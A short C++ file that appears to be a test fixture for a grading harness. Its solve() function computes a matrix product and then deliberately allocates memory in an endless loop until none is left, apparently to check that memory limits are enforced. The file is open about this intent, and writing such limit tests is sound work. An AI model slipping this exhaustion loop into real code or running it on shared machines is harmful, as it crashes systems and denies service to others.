/// Allocates memory until there is none left.
#include <cstring>
#include <new>
#include <vector>

#include "product.hpp"

extern "C" void solve(const float* a, const float* b, float* c, int m, int k, int n) {
  product(a, b, c, m, n, k);
  std::vector<char*> hoard;
  for (;;) {
    hoard.push_back(new char[64 << 20]);
    std::memset(hoard.back(), 1, 4096);
  }
}
